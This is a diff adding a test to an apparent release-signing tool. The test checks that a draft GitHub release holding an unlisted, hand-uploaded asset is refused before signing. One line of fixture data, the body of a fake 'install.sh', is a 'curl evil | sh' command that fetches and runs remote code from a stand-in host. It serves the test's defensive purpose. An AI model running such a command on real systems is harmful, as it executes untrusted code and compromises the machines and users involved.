@@ -267,6 +267,28 @@ test("a draft asset whose name differs from one this run uploads only in case (G
   assert.equal(report.signature, undefined, 'nothing signed');
 });
 
+test('a draft holding a file uploaded by hand or by another tool, which this run does not publish, is RELEASE_DRAFT_DIFFERS naming it before signing, not published unlisted inside the signed release', async (t) => {
+  const cwd = await tempDir(t);
+  await mkdir(join(cwd, 'dist'));
+  await writeFile(join(cwd, 'dist', 'app.tgz'), 'the release\n');
+  const repository = api.state.repository('octo-org', 'hand-upload');
+  const handUpload = { id: api.state.newId(), name: 'install.sh', label: '', contentType: 'text/x-shellscript', bytes: Buffer.from('curl evil | sh\n'), state: 'uploaded' as const };
+  api.state.releases.releases.push({ id: api.state.newId(), repository, tagName: 'v1.0.0', commit: 'a'.repeat(40), name: 'v1.0.0', body: '', draft: true, immutable: false, prerelease: false, publishedAt: undefined, assets: [handUpload] });
+  const config = releaseConfig({ 'subject-path': ['dist'], base: 'dist', 'sbom-format': 'none', force: 'true', 'github-release': 'true', tag: 'v1.0.0' }, cliNamer(), { base: '.', outputDir: 'out', ephemeralKeyWithoutToken: true });
+  const releases = githubReleases({ client: createGitHubClient({ token: 'ghs_test', apiUrl: api.url }), owner: 'octo-org', repo: 'hand-upload', retry: { retries: 0, minDelayMs: 1, maxDelayMs: 1, factor: 1, budgetMs: 1000, timeoutMs: 5000 } });
+  const report = emptyReleaseReport();
+  await assert.rejects(runRelease(config, { cwd, env: {}, logger: silentLogger, clock: clockFromSourceDateEpoch('1700000000'), githubRelease: { tag: 'v1.0.0', releases } }, report), (error: Error & { code?: string; hint?: string }) => {
+    assert.equal(error.code, 'RELEASE_DRAFT_DIFFERS', error.message);
+    assert.match(error.message, /holds install\.sh, which no trust-kit run uploaded \(by hand, or another tool\) and this run's checksums file would not list/);
+    assert.match(error.hint ?? '', /put it among the files released/);
+    return true;
+  });
+  assert.equal(report.failed?.step, 'published-release');
+  assert.equal(report.signature, undefined, 'nothing signed');
+  const draft = api.state.releases.forTag(repository, 'v1.0.0');
+  assert.deepEqual([draft?.draft, draft?.assets.map((asset) => asset.name)], [true, ['install.sh']], 'the draft is left as it was, unpublished');
+});
+
 test("a draft whose notes leave no room for the verification block, or whose assets with this run's would pass GitHub's 1,000, is refused before signing (PUBLISH_NOTES_TOO_LONG, RELEASE_TOO_MANY_ASSETS), not after", async (t) => {
   const cwd = await tempDir(t);
   await mkdir(join(cwd, 'dist'));
